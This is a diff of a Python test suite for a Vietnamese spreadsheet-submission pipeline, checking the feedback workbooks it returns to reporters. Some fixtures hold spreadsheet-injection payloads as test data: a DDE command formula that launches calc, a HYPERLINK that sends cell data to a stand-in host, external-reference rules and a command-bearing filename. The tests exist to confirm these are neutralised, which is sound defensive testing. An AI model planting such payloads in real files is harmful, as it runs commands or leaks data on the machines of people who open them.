@@ -12,10 +12,11 @@ from xml.etree import ElementTree
 import openpyxl
 import pytest
 from openpyxl.comments import Comment
+from openpyxl.formatting.rule import FormulaRule
 from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.datavalidation import DataValidation
 
-from mangnon import tell
+from mangnon import night, publish, tell, warehouse
 from mangnon.codes import CodeLists
 from mangnon.feedback import harmless
 from mangnon.forms.template import write_template
@@ -25,9 +26,23 @@ JULY = date(2020, 7, 1)
 HOSTILE = (
     "=cmd|'/c calc'!A1", '=HYPERLINK("http://example.org/?"&A1,"bấm")', "+1", "-2+3", "@SUM(1)", "\t=1+1", "=1+1",
 )  # fmt: skip
+MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 MEASURES = """
     select sum(event_count), sum(attendances) from marts.fct_events
     where period = '2020-07-01' and reporter_key = hashtextextended('193', 0)
+"""
+
+CSV = """\
+#reporter,194
+#period,2020-07
+#form,events
+#revision,2
+#reason,sửa số liệu
+area,event_date,event_type,programme,event_count,attendances,child_attendances,caregiver_attendances,\
+official_attendances,collaborator_attendances,delegations,qualifier
+194,,communication,,1,100,,,,,,
+194,,=1+1,,1,100,,,,,,
+194,,communication,,1,100,,,,,,
 """
 
 Night = Callable[[], int | None]
@@ -67,7 +82,7 @@ def typed_wrong(path: Path, **cells: str) -> Path:
 
 
 def told(outbox: Path) -> list[Path]:
-    return sorted(outbox.glob("*/**/*.xlsx"))
+    return sorted(outbox.rglob("*.xlsx"))
 
 
 def lines_of(book: openpyxl.Workbook) -> list[dict[str, Any]]:
@@ -139,18 +154,51 @@ def test_the_whole_circle_from_refusal_to_publication(published: ModuleType, tmp
     assert told(outbox) == [workbook]
 
 
-def test_the_sums_of_the_cover_go_on_summing(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
-    typed_wrong(submission(tmp_path / "inbox" / "a.xlsx"), F4="hai trăm")
-    run_night()
+@pytest.fixture(scope="module")
+def outbox(published_once: Path) -> Path:
+    """The answers after one night in which everybody sent something else that is wrong."""
+    inbox = published_once / "inbox"
+    hostile(submission(inbox / "=cmd|'calc'!A1 $(x) <b>.xlsm"))
+    (inbox / "a.csv").write_text(CSV, encoding="utf-8")
+    submission(inbox / "parts.xlsx", "195", {"events": [event("195", 1), event("195", 1, child_attendances=400)]})
+    # Three people at an event are rather a conversation; and nobody says why it is sent again.
+    submission(inbox / "few.xlsx", "196", {"events": [event("196", 1, attendances=3)]}, reason="")
+    for count in (5, 6):
+        submission(inbox / f"tie-{count}.xlsx", "198", {"events": [event("198", count)]})
+    typed_wrong(submission(inbox / "replaced.xlsx", "199"), F4="hai trăm")
+    submission(inbox / "replacing.xlsx", "199", revision=3)
+    typed_wrong(submission(inbox / "sums.xlsx", "200", synthetic=True), F4="hai trăm")
+    (inbox / "báo cáo.xlsx").write_bytes(b"PK\x03\x04 cut off")
+    night_without_airflow()
+    with warehouse.connect() as connection:
+        connection.execute(
+            """
+            delete from ops.verdict_cells
+            where verdict_id in (select verdict_id from ops.verdicts inner join ops.loads using (load_id)
+                where reporter_code = '195')
+            """
+        )
+        connection.execute(
+            """
+            insert into ops.verdict_cells (verdict_id, sheet_name, row_number, field, message)
+            select verdict_id, 'Hoạt động', 5, 'child_attendances', 'Lượt trẻ em (400) nhiều hơn tổng (100).'
+            from ops.verdicts inner join ops.loads using (load_id)
+            where reporter_code = '195' and not is_met and severity = 'critical'
+            """
+        )
     tell.write_feedback()
-    cover = openpyxl.load_workbook(told(tmp_path / "outbox")[0])["Bìa"]
-    sums = {row[2].value: row[3].value for row in cover.iter_rows(min_row=11) if row[0].value == "Hoạt động"}
-    assert sums
-    assert all(formula.startswith("=SUM('Hoạt động'!$") for formula in sums.values())
+    return published_once / "outbox"
 
 
-def test_what_a_file_holds_never_acts(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
-    path = submission(tmp_path / "inbox" / "=cmd|' /c calc'!A1 $(x) <b>.xlsm")
+def night_without_airflow() -> None:
+    for reporter in night.collect():
+        night.load(reporter)
+    night.close()
+    publish.publish_all(say=lambda _: None)
+
+
+def hostile(path: Path) -> None:
+    """Somebody fills a workbook with what acts when a spreadsheet program opens it."""
     book = openpyxl.load_workbook(path)
     sheet = book["Hoạt động"]
     for row, text in enumerate(HOSTILE, start=10):
@@ -160,170 +208,136 @@ def test_what_a_file_holds_never_acts(published: ModuleType, tmp_path: Path, run
     sheet["B30"].hyperlink = "http://example.org/"
     sheet["C30"].comment = Comment("=1+1", "ai đó")
     sheet.add_data_validation(DataValidation("list", formula1="=[1]Sheet1!$A$1", sqref="D30"))
-    sheet.conditional_formatting.add("A1:B9", openpyxl.formatting.rule.FormulaRule(["[1]Sheet1!$A$1"]))
+    sheet.conditional_formatting.add("A1:B9", FormulaRule(["[1]Sheet1!$A$1"]))
     book.defined_names["x"] = DefinedName("x", attr_text="cmd|'/c calc'!A1")
     book.create_sheet("Khác").cell(1, 1).value = "=SUM(Z1:Z9)"
     book.save(path)
-    run_night()
-    tell.write_feedback()
 
-    (returned,) = told(tmp_path / "outbox")
-    assert returned.parent == tmp_path / "outbox" / "193" / "2020-07"
-    with zipfile.ZipFile(returned) as parts:
+
+def returned(outbox: Path, reporter: str) -> openpyxl.Workbook:
+    """The one workbook that the reporter got back."""
+    (path,) = told(outbox / reporter)
+    return openpyxl.load_workbook(path)
+
+
+def test_what_a_file_holds_never_acts(outbox: Path) -> None:
+    (path,) = told(outbox / "193")
+    with zipfile.ZipFile(path) as parts:
         contents = {name: parts.read(name).decode() for name in parts.namelist()}
     formulas = [
         formula.text or ""
         for name, content in contents.items()
         if "worksheets/sheet" in name and name.endswith(".xml")
-        for formula in ElementTree.fromstring(content).iter(
-            "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}f"
-        )
+        for formula in ElementTree.fromstring(content).iter(f"{{{MAIN}}}f")
     ]
-    assert formulas
-    assert all(
-        re.fullmatch(r"SUM\('[^'\[\]|]+'!\$[A-Z]\$4:\$[A-Z]\$1048576\)(-SUMIFS\(.*\))?", text) for text in formulas
-    )
+    assert formulas, "the template's own"
+    sums = re.compile(r"SUM\('[^'\[\]|]+'!\$[A-Z]\$4:\$[A-Z]\$1048576\)(-SUMIFS\('[^\[\]|]*\))?")
+    assert all(sums.fullmatch(text) for text in formulas)
     known = r"xl/(workbook|styles|sharedStrings|theme/theme1|worksheets/sheet\d+|comments/comment\d+|drawings/\w+)"
     other = r".*\.rels|docProps/(app|core)\.xml|\[Content_Types\]\.xml"
-    strange = [name for name in contents if not re.fullmatch(rf"{known}\.(xml|vml)|{other}", name)]
-    assert not strange
+    assert not [name for name in contents if not re.fullmatch(rf"{known}\.(xml|vml)|{other}", name)]
     everything = "".join(contents.values())
     assert "External" not in everything
     assert "macroEnabled" not in everything
     assert not re.search(r"definedName[^>]*>[^<]*cmd", everything)
-    shown = openpyxl.load_workbook(returned)
+    assert "[1]Sheet1" not in everything
+    assert "ai đó" not in everything
+
+
+def test_text_that_looks_like_a_formula_stays_text(outbox: Path) -> None:
+    book = returned(outbox, "193")
     for row, text in enumerate(HOSTILE, start=10):
-        cell = shown["Hoạt động"].cell(row, 3)
+        cell = book["Hoạt động"].cell(row, 3)
         assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (text, "s", True)
-    summary = [cell for line in shown["Phản hồi"].iter_rows() for cell in line]
-    assert {cell.data_type for cell in summary} <= {"s", "n"}
-    assert {line["Giá trị đã đọc"] for line in lines_of(shown)} >= {"=1+1", "@SUM(1)"}
-    assert [limit.formula1 for limit in shown["Hoạt động"].data_validations.dataValidation if limit.type == "list"]
-    assert not shown["Hoạt động"]["C30"].comment or "ai đó" not in shown["Hoạt động"]["C30"].comment.author
+    assert {cell.data_type for row in book["Phản hồi"].iter_rows() for cell in row} <= {"s", "n"}
+    assert {line["Giá trị đã đọc"] for line in lines_of(book)} >= {"=1+1", "@SUM(1)"}
 
 
-def test_an_accepted_form_with_a_warning_comes_back_too(
-    published: ModuleType, tmp_path: Path, run_night: Night
-) -> None:
-    # Three people at an event are rather a conversation; and nobody says why it is sent again.
-    submission(tmp_path / "inbox" / "a.xlsx", lines={"events": [event("193", 1, attendances=3)]}, reason="")
-    assert run_night() == 2
-    tell.write_feedback()
-    book = openpyxl.load_workbook(told(tmp_path / "outbox")[0])
+def test_drop_downs_and_frozen_headers_stay(outbox: Path) -> None:
+    sheet = returned(outbox, "193")["Hoạt động"]
+    assert sheet.freeze_panes == "A4"
+    lists = [limit.formula1 for limit in sheet.data_validations.dataValidation if limit.type == "list"]
+    assert lists
+    assert all(source.startswith("'Danh mục'!$") for source in lists)
+    assert returned(outbox, "193")["Danh mục"].sheet_state == "hidden"
+
+
+def test_the_sums_of_the_cover_go_on_summing(outbox: Path) -> None:
+    cover = returned(outbox, "200")["Bìa"]
+    sums = [row[3].value for row in cover.iter_rows(min_row=11) if row[0].value == "Hoạt động"]
+    assert sums
+    assert all(formula.startswith("=SUM('Hoạt động'!$") for formula in sums)
+
+
+def test_made_up_data_say_so(outbox: Path) -> None:
+    assert "Dữ liệu mẫu (giả định)" in words_of(returned(outbox, "200"))
+
+
+def test_a_csv_comes_back_as_its_concerned_rows(outbox: Path) -> None:
+    book = returned(outbox, "194")
+    assert book.sheetnames == ["Phản hồi", "Hoạt động"]
+    rows = {row[0].value: [cell.value for cell in row[1:4]] for row in book["Hoạt động"].iter_rows(min_row=2)}
+    assert rows[8] == ["194", None, "=1+1"]
+    line = next(line for line in lines_of(book) if line["Cột"] == "Loại hoạt động" and line["Ô"] == "C8")
+    assert (linked(book, line).value, linked(book, line).data_type) == ("=1+1", "s")
+    assert "Sửa trong tệp của đơn vị, không sửa trong tệp này" in words_of(book)
+
+
+def test_a_cell_that_a_gate_names_is_marked(outbox: Path) -> None:
+    book = returned(outbox, "195")
+    line = lines_of(book)[0]
+    assert (line["Mức độ"], line["Trang"], line["Ô"], line["Giá trị đã đọc"]) == ("Phải sửa", "Hoạt động", "G5", "400")
+    assert line["Nội dung và cách sửa"] == "Lượt trẻ em (400) nhiều hơn tổng (100)."
+    assert linked(book, line).value == 400
+    assert "Lượt trẻ em (400) nhiều hơn tổng (100)." in linked(book, line).comment.text
+
+
+def test_an_accepted_form_with_a_warning_comes_back_too(outbox: Path) -> None:
+    book = returned(outbox, "196")
     lines = lines_of(book)
     assert {line["Mức độ"] for line in lines} == {"Nên xem lại"}
-    assert all(linked(book, line).comment.text.startswith("NÊN XEM LẠI: ") for line in lines)
+    assert all(linked(book, line).comment.text.startswith("NÊN XEM LẠI: ") for line in lines if line["link"])
+    assert [line for line in lines if line["link"]]
     assert "Đã nhận, nhưng có điểm nên xem lại" in words_of(book)
     assert "BỊ TỪ CHỐI" not in words_of(book)
 
 
-def test_a_cell_that_a_gate_names_is_marked(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
-    submission(
-        tmp_path / "inbox" / "a.xlsx", lines={"events": [event("193", 1), event("193", 1, child_attendances=400)]}
-    )
-    run_night()
-    with published.connect() as connection:
-        connection.execute("delete from ops.verdict_cells")
-        connection.execute(
-            """
-            insert into ops.verdict_cells (verdict_id, sheet_name, row_number, field, message)
-            select verdict_id, 'Hoạt động', 5, 'child_attendances', 'Lượt trẻ em (400) nhiều hơn tổng (100).'
-            from ops.verdicts where not is_met and load_id is not null and severity = 'critical'
-            """
-        )
-    tell.write_feedback()
-    book = openpyxl.load_workbook(told(tmp_path / "outbox")[0])
-    line = lines_of(book)[0]
-    assert (line["Mức độ"], line["Trang"], line["Giá trị đã đọc"]) == ("Phải sửa", "Hoạt động", "400")
-    assert line["Nội dung và cách sửa"] == "Lượt trẻ em (400) nhiều hơn tổng (100)."
-    assert linked(book, line).value == 400
-    assert linked(book, line).comment.text == "PHẢI SỬA: Lượt trẻ em (400) nhiều hơn tổng (100)."
+def test_both_of_two_files_with_one_revision_are_told(outbox: Path) -> None:
+    assert [path.name[:5] for path in told(outbox / "198")] == ["tie-5", "tie-6"]
+    for path in told(outbox / "198"):
+        book = openpyxl.load_workbook(path)
+        assert "Hai tệp khác nhau cùng lần gửi 2" in lines_of(book)[0]["Nội dung và cách sửa"]
+        assert "TẠM GIỮ" in words_of(book)
+        assert "tăng “Lần gửi” lên 3" in words_of(book)
 
 
-def test_a_file_that_cannot_be_opened_gets_the_summary_alone(
-    published: ModuleType, tmp_path: Path, run_night: Night
-) -> None:
-    (tmp_path / "inbox").mkdir()
-    (tmp_path / "inbox" / "báo cáo.xlsx").write_bytes(b"PK\x03\x04 cut off")
-    run_night()
-    tell.write_feedback()
-    (returned,) = told(tmp_path / "outbox")
-    assert returned.parent == tmp_path / "outbox" / "_khong-ro-don-vi"
-    book = openpyxl.load_workbook(returned)
+def test_what_is_replaced_already_is_not_told(outbox: Path) -> None:
+    assert not (outbox / "199").exists()
+
+
+def test_a_file_that_cannot_be_opened_gets_the_summary_alone(outbox: Path) -> None:
+    book = returned(outbox, "_khong-ro-don-vi")
     assert book.sheetnames == ["Phản hồi"]
     assert "Không mở được tệp" in lines_of(book)[0]["Nội dung và cách sửa"]
 
 
-CSV = """\
-#reporter,194
-#period,2020-07
-#form,events
-#revision,2
-#reason,sửa số liệu
-area,event_date,event_type,programme,event_count,attendances,child_attendances,caregiver_attendances,\
-official_attendances,collaborator_attendances,delegations,qualifier
-194,,communication,,1,100,,,,,,
-194,,=1+1,,1,100,,,,,,
-194,,communication,,1,100,,,,,,
-"""
+def test_nobody_hears_of_the_sample_or_of_anything_twice(outbox: Path) -> None:
+    assert {path.name for path in outbox.iterdir()} == {"193", "194", "195", "196", "198", "200", "_khong-ro-don-vi"}
+    assert tell.write_feedback() == []
 
 
-def test_a_csv_comes_back_as_its_concerned_rows(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
-    (tmp_path / "inbox").mkdir()
-    (tmp_path / "inbox" / "a.csv").write_text(CSV, encoding="utf-8")
-    run_night()
-    tell.write_feedback()
-    book = openpyxl.load_workbook(told(tmp_path / "outbox")[0])
-    assert book.sheetnames == ["Phản hồi", "Hoạt động"]
-    rows = [[cell.value for cell in row] for row in book["Hoạt động"].iter_rows(min_row=2, max_col=4)]
-    assert rows == [[8, "194", None, "=1+1"]]
-    line = next(line for line in lines_of(book) if line["Cột"] == "Loại hoạt động")
-    assert (line["Ô"], linked(book, line).value, linked(book, line).data_type) == ("C8", "=1+1", "s")
-    assert "Sửa trong tệp của đơn vị, không sửa trong tệp này" in words_of(book)
-
-
-def test_a_workbook_that_is_too_large_comes_back_as_its_concerned_rows(
+def test_a_later_tie_is_told_of_too(
     published: ModuleType, tmp_path: Path, run_night: Night, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(harmless, "LARGEST", 1000)
-    typed_wrong(submission(tmp_path / "inbox" / "a.xlsx"), F5="ba trăm")
+    # The first is accepted with a warning; then it ties with another, which comes in a file that is too large to mark.
+    submission(tmp_path / "inbox" / "a.xlsx", lines={"events": [event("193", 1, attendances=3)]})
     run_night()
-    tell.write_feedback()
-    book = openpyxl.load_workbook(told(tmp_path / "outbox")[0])
-    assert book.sheetnames == ["Phản hồi", "Hoạt động"]
-    assert [cell.value for cell in book["Hoạt động"]["A"]] == ["Dòng trong tệp", 5]
-
-
-def test_both_of_two_files_with_one_revision_are_told(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
-    lines = [{"events": [event("193", count)]} for count in (5, 6)]
-    submission(tmp_path / "inbox" / "a.xlsx", lines=lines[0])
+    assert len(tell.write_feedback()) == 1
+    typed = submission(tmp_path / "inbox" / "b.xlsx", lines={"events": [event("193", 2, attendances=3)]})
     run_night()
-    assert tell.write_feedback() == []
-    submission(tmp_path / "inbox" / "b.xlsx", lines=lines[1])
-    run_night()
-    assert [Path(place).name[0] for place in tell.write_feedback()] == ["a", "b"]
-    for returned in told(tmp_path / "outbox"):
-        book = openpyxl.load_workbook(returned)
-        assert "Hai tệp khác nhau cùng lần gửi 2" in lines_of(book)[0]["Nội dung và cách sửa"]
-        assert "TẠM GIỮ" in words_of(book)
-    submission(tmp_path / "inbox" / "c.xlsx", lines=lines[1], revision=3)
-    run_night()
-    assert tell.write_feedback() == []
-
-
-def test_what_is_replaced_already_is_not_told(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
-    typed_wrong(submission(tmp_path / "inbox" / "a.xlsx"), F4="hai trăm")
-    submission(tmp_path / "inbox" / "b.xlsx", revision=3)
-    run_night()
-    assert tell.write_feedback() == []
-
-
-def test_made_up_data_say_so(published: ModuleType, tmp_path: Path, run_night: Night) -> None:
-    typed_wrong(submission(tmp_path / "inbox" / "a.xlsx", synthetic=True), F4="hai trăm")
-    run_night()
-    tell.write_feedback()
-    assert "Dữ liệu mẫu (giả định)" in words_of(openpyxl.load_workbook(told(tmp_path / "outbox")[0]))
-
-
-def test_the_sample_itself_gives_nobody_anything_to_mend(published: ModuleType) -> None:
-    assert tell.write_feedback() == []
+    monkeypatch.setattr(harmless, "LARGEST", typed.stat().st_size)
+    assert len(tell.write_feedback()) == 2
+    assert len([path for path in told(tmp_path / "outbox") if path.name.startswith("a.")]) == 2
+    (large,) = (path for path in told(tmp_path / "outbox") if path.name.startswith("b."))
+    assert openpyxl.load_workbook(large).sheetnames[0] == "Phản hồi"
+    assert "Bìa" not in openpyxl.load_workbook(large).sheetnames
